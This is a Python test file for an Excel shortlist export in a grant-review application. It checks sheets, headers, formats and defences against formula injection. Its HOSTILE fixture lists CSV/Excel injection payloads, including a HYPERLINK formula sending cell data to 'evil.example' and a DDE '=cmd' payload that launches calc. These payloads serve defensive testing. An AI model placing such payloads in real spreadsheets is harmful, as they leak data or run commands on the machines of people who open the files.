"""The shortlist workbook: sheets, headers, formats, frozen panes, and no formula injection."""

from __future__ import annotations

import dataclasses
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from reviewdesk.reports.model import ReportData
from reviewdesk.reports.xlsx import render_xlsx, safe_text, sheet_title

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1)", "-1+2", "+86 531 1234", "=1+1",
           "\t=cmd", "\r=cmd", "＝全角", "A&B <c>"]


@pytest.fixture(scope="module")
def hostile(sample: ReportData) -> ReportData:
    p = sample.programs[0]
    entries = list(p.entries)
    for i, name in enumerate(HOSTILE):
        entries[i] = dataclasses.replace(entries[i], enterprise_name=name, project_name=name,
                                         amount_text=name)
    entries[-1] = dataclasses.replace(entries[-1], enterprise_name="控制\x01字符\x1f公司")
    return dataclasses.replace(sample, programs=[dataclasses.replace(p, entries=entries),
                                                 *sample.programs[1:]],
                               session_name="=cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory, hostile: ReportData) -> Path:
    return render_xlsx(hostile, tmp_path_factory.mktemp("xlsx") / "shortlist.xlsx")


def test_sheets(book: Path, sample: ReportData):
    wb = openpyxl.load_workbook(book)
    names = wb.sheetnames
    assert names[0] == "汇总"
    assert names[1:1 + len(sample.programs)] == [f"{p.program_id} {p.name}"[:31] for p in sample.programs]
    assert names[-2:] == ["评审组长决定", "评审专家"]
    assert [p.name for p in book.parent.iterdir()] == ["shortlist.xlsx"], "no temporary file left"


def test_program_sheet_header_formats_and_frozen_row(book: Path, hostile: ReportData):
    wb = openpyxl.load_workbook(book)
    for p in hostile.programs:
        ws = wb[f"{p.program_id} {p.name}"[:31]]
        header = [c.value for c in ws[1]]
        assert header[:6] == ["排名", "并列", "申报编号", "企业名称", "统一社会信用代码", "项目名称"]
        assert {"得分", "有效评审数", "保留数", "拟资助金额（元）", "状态", "说明"} <= set(header)
        assert ws.freeze_panes == "A2"
        assert ws.max_row == len(p.entries) + 1
        col = {name: i for i, name in enumerate(header)}
        for row, e in zip(ws.iter_rows(min_row=2), p.entries, strict=True):
            assert row[col["申报编号"]].value == e.application_id
            amount = row[col["拟资助金额（元）"]]
            assert amount.value == e.amount
            assert amount.number_format == "#,##0"
            score = row[col["得分"]]
            if e.score is not None:
                assert score.number_format == "0.00"
                assert Decimal(str(score.value)) == Decimal(e.score)
            assert row[col["状态"]].value == {"awarded": "入选", "reserve": "候补", "excluded": "未入选"}[e.status]
        assert ws.column_dimensions["D"].width >= 30


def test_status_fill_and_quota_line(book: Path, hostile: ReportData):
    wb = openpyxl.load_workbook(book)
    p = hostile.programs[0]
    ws = wb[f"{p.program_id} {p.name}"[:31]]
    last_awarded = max(i for i, e in enumerate(p.entries) if e.status == "awarded") + 2
    for r, e in enumerate(p.entries, 2):
        fill = ws.cell(r, 1).fill.fgColor.rgb
        assert fill.endswith({"awarded": "E6F4EA", "reserve": "FFF4E0", "excluded": "F1F3F4"}[e.status])
        bottom = ws.cell(r, 4).border.bottom
        assert (bottom.style == "thick") == (r == last_awarded)
    assert ws.cell(last_awarded, 4).border.bottom.color.rgb.endswith("C62828")


def test_no_cell_is_a_formula(book: Path):
    wb = openpyxl.load_workbook(book)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_hostile_text_is_kept_verbatim_with_a_quote_prefix(book: Path, hostile: ReportData):
    wb = openpyxl.load_workbook(book)
    p = hostile.programs[0]
    ws = wb[f"{p.program_id} {p.name}"[:31]]
    for r, name in enumerate(HOSTILE, 2):
        cell = ws.cell(r, 4)
        assert cell.value == name
        assert cell.data_type == "s"
        assert cell.quotePrefix == (name[0] in "=+-@\t\r＝"), name
        assert ws.cell(r, 6).value == name
    controls = ws.cell(len(p.entries) + 1, 4).value
    assert controls == "控制字符公司"
    summary = wb["汇总"]
    assert summary["B2"].value == "=cmd|' /C calc'!A0" and summary["B2"].data_type == "s"


def test_summary_sheet(book: Path, hostile: ReportData):
    ws = openpyxl.load_workbook(book)["汇总"]
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    head = next(i for i, r in enumerate(rows) if r[0] == "项目类别")
    assert ws.freeze_panes == f"C{head + 2}"
    assert rows[head][:3] == ["项目类别", "项目名称", "申报数"]
    body = rows[head + 1: head + 1 + len(hostile.programs)]
    col = rows[head].index("拟资助金额（元）")
    for r, p in zip(body, hostile.programs, strict=True):
        assert r[0] == p.program_id and r[1] == p.name and r[col] == p.awarded_amount
    total = rows[head + 1 + len(hostile.programs)]
    assert total[0] == "合计" and total[col] == hostile.awarded_amount
    assert ws.cell(head + 2, col + 1).number_format == "#,##0"


def test_decisions_and_panel_sheets(book: Path, hostile: ReportData):
    wb = openpyxl.load_workbook(book)
    dec = [[c.value for c in r] for r in wb["评审组长决定"].iter_rows(min_row=2)]
    assert [r[1] for r in dec] == [d.application_id for d in hostile.decisions]
    assert [r[5] for r in dec] == [d.reason for d in hostile.decisions]
    panel = [[c.value for c in r] for r in wb["评审专家"].iter_rows(min_row=2)]
    assert [r[0] for r in panel[:len(hostile.panel)]] == [e.expert_id for e in hostile.panel]
    assert panel[-1][1] == hostile.chair_name


def test_english_labels(tmp_path: Path, sample: ReportData):
    wb = openpyxl.load_workbook(render_xlsx(sample, tmp_path / "en.xlsx", lang="en"))
    assert wb.sheetnames[0] == "Summary" and wb.sheetnames[-2:] == ["Decisions", "Panel"]
    assert wb.worksheets[1]["C1"].value == "Application"


def test_existing_file_is_replaced_whole(tmp_path: Path, sample: ReportData):
    out = tmp_path / "s.xlsx"
    out.write_bytes(b"old")
    render_xlsx(sample, out)
    assert zipfile.is_zipfile(out)
    assert [p.name for p in tmp_path.iterdir()] == ["s.xlsx"]


def test_sheet_title_rules():
    taken: set[str] = set()
    assert sheet_title("P12 “企业上云”专项引导资金", taken) == "P12 “企业上云”专项引导资金"
    t = sheet_title("P13 供需对接/峰会:论坛*竞赛?[活动]\\很长很长很长很长很长很长的名字", taken)
    assert len(t) <= 31 and not set(t) & set("[]:*?/\\")
    assert sheet_title("'引号'", taken) == "引号"
    a = sheet_title("同名" * 20, taken)
    b = sheet_title("同名" * 20, taken)
    assert a != b and len(b) <= 31 and b.endswith("(2)")
    assert sheet_title("history", taken).casefold() != "history"
    assert sheet_title("", taken) == "Sheet"


def test_safe_text():
    assert safe_text("a\x00b\x08c\x0bd\te\nf") == "abcd\te\nf"
    assert len(safe_text("x" * 40000)) == 32767
